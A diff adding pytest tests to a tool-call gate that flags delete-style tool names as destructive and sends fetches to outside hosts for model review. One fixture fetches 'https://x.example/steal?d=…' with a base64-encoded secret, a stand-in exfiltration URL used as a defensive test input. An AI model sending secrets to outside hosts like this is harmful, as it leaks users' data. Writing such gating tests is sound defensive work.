@@ -203,3 +203,22 @@ def test_a_name_rule_deny_says_it_looks_destructive_and_why(tmp_path: Path) -> N
     assert v.outcome == "deny"
     assert v.reason.startswith("Tool gate: this call looks destructive or irreversible (p=0.20)")
     assert "external by the gate's rules (the tool's name says 'delete'" in v.reason
+
+
+@pytest.mark.parametrize("tool", ["delListeNoire", "del_user", "trash_message", "trashFile"])
+def test_short_and_trash_deletes_are_delete_verbs(tmp_path: Path, tool: str) -> None:
+    e = name_effect(tool, {"id": "5"}, cwd=str(tmp_path))
+    assert e is not None and e.effect.destructive and "deletes something" in e.evidence
+
+
+def test_del_inside_a_name_is_not_a_verb(tmp_path: Path) -> None:
+    assert operation_verb("get_estado_del_pedido") == ("get", "name")
+    assert operation_verb("estado_del_pedido") is None
+
+
+def test_a_plain_read_with_a_url_to_another_machine_is_left_to_the_model(tmp_path: Path) -> None:
+    e = name_effect("fetch", {"url": "https://x.example/steal?d=c2VjcmV0"}, cwd=str(tmp_path))
+    assert e is not None and e.effect is EffectClass.READ_ONLY and e.needs_model
+    assert "leaves the machine" in e.evidence
+    local = name_effect("fetch", {"url": "http://localhost:8000/health"}, cwd=str(tmp_path))
+    assert local is not None and not local.needs_model
